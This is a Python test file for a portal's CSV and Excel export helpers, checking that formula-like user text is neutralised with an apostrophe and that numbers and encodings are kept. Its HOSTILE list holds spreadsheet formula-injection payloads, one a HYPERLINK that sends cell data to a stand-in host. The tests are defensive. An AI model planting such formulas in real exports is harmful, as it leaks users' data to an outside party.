"""The one cell rule of every CSV and Excel download: user text never becomes a formula."""

import codecs
import csv
import io
import zipfile
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from portal.spreadsheets import CsvWriter, append_row, safe_cell, unquote_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"details")',
    "+1",
    "-2",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_gets_an_apostrophe_and_reads_back(text):
    assert safe_cell(text) == "'" + text
    assert unquote_cell(safe_cell(text)) == text


@pytest.mark.parametrize("value", [-2, -2.5, 0, 3, 1.25, None, "", "Plain title", "a=b", "'quoted"])
def test_numbers_and_ordinary_text_are_left_alone(value):
    assert safe_cell(value) == value
    if isinstance(value, str):
        assert unquote_cell(value) == value


def test_csv_writer_neutralises_text_and_keeps_numbers():
    buffer = io.StringIO()
    CsvWriter(buffer).writerows([[text, -2, -2.5] for text in HOSTILE])
    # Read as a spreadsheet reads the file: UTF-8 after its byte order mark.
    text = buffer.getvalue().encode().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert [r[0] for r in rows] == ["'" + t for t in HOSTILE]
    assert {(r[1], r[2]) for r in rows} == {("-2", "-2.5")}


def test_workbook_cells_are_strings_never_formulas():
    book = Workbook()
    append_row(book.active, ["Title", "Value"])
    for text in HOSTILE:
        append_row(book.active, [text, -2])
    append_row(book.active, ["bell\x07 in a title", 1.5])  # XML cannot hold it; no 500
    saved = io.BytesIO()
    book.save(saved)
    sheet = load_workbook(io.BytesIO(saved.getvalue())).active
    assert_no_formula(saved.getvalue())
    cells = list(sheet.iter_rows(min_row=2, values_only=True))
    # XML reads a stored carriage return back as a line feed
    assert [c[0] for c in cells[:-1]] == ["'" + t.replace("\r", "\n") for t in HOSTILE]
    assert cells[-1] == ("bell in a title", 1.5)
    assert {c[1] for c in cells[:-1]} == {-2}


def assert_no_formula(xlsx: bytes) -> None:
    """No cell of any sheet of the saved workbook is a formula (nor holds one unsaved)."""
    book = load_workbook(io.BytesIO(xlsx))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


def test_csv_starts_with_a_byte_order_mark_so_excel_reads_utf_8():
    buffer = io.StringIO()
    CsvWriter(buffer).writerow(["Café", "Zoë's idea"])
    data = buffer.getvalue().encode()
    assert data.startswith(codecs.BOM_UTF8)
    assert data.decode("utf-8-sig") == "Café,Zoë's idea\r\n"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (326000.0, "326000"),
        (-2.0, "-2"),
        (0.0, "0"),
        (28.7, "28.7"),
        (-2.5, "-2.5"),
        (Decimal("12.00"), "12"),
        (Decimal("12.50"), "12.50"),
        (7, "7"),
        ("326000.0", "326000.0"),  # text stays as typed
    ],
)
def test_csv_writes_whole_amounts_without_a_trailing_zero(value, written):
    buffer = io.StringIO()
    CsvWriter(buffer).writerow([value])
    assert buffer.getvalue().removeprefix("\ufeff") == written + "\r\n"
